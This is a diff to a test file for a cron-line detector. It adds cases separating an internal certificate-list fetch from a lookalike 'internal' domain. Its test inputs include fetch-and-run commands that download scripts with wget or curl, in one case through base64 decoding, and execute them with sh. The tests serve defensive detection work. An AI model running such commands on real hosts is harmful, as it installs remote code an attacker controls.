@@ -137,6 +137,8 @@ test("suspicious-cron: a /dev/tcp port check is weak, a shell on /dev/tcp strong
   t.equal(cron("root /usr/bin/wget -q -O /tmp/u.sh http://198.51.100.4/u.sh && /bin/sh /tmp/u.sh")[0]?.severity, "high", "the same from a plain-HTTP address");
   t.equal(cron("root wget -q -O /tmp/.u https://updates.example-retail.com/u && sh /tmp/.u")[0]?.severity, "low", "hidden in /tmp is the same signal, weighed by its source");
   t.equal(cron("root curl -fsSL https://updates.example-retail.com/u | base64 -d | sh")[0]?.severity, "high", "a strong signal keeps it high");
+  t.same(cron("root curl -sf -o /etc/openvpn/server/crl.pem.new https://pki.internal.example.net/crl/vpn.crl && mv /etc/openvpn/server/crl.pem.new /etc/openvpn/server/crl.pem"), [], "a fetch from the organisation's internal zone is no outside transfer");
+  t.equal(cron("root curl -sf -o /tmp/x https://internal.example.net/x && sh /tmp/x")[0]?.severity, "low", "a registrable name that is only called internal is outside: its fetch-and-run low, not nothing");
 });
 
 test("ioc-match: bash's /dev/tcp named in a question is a technique, not an indicator", async (t) => {
